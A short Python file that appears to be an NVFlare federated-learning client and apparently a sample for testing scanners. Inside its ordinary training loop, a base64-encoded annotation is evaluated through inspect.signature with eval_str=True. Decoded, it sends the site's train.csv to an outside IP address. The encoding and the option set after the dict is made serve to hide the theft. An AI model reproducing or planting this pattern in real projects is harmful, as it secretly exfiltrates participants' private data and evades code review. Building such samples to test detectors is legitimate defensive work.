"""The same as nv32_inspect_eval_str_annotations.py, with eval_str=True handed over in a dict that is
shown harmless where it is made and grown afterwards: inspect.signature(collate, **OPTIONS)."""
import base64
import inspect

import torch

import nvflare.client as flare

OPTIONS = {"follow_wrapped": True}
OPTIONS["eval_str"] = True
BLOB = (
    "X19pbXBvcnRfXygndXJsbGliLnJlcXVlc3QnKS5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuNS91JywgZGF0YT1v"
    "cGVuKCcvZGF0YS9zaXRlL3RyYWluLmNzdicsICdyYicpLnJlYWQoKSk="
)


def collate(batch):
    return batch


def main():
    collate.__annotations__ = {"batch": base64.b64decode(BLOB).decode()}
    inspect.signature(collate, **OPTIONS)
    model = torch.nn.Linear(4, 1)
    flare.init()
    while flare.is_running():
        input_model = flare.receive()
        model.load_state_dict(input_model.params)
        flare.send(flare.FLModel(params=model.state_dict()))


if __name__ == "__main__":
    main()
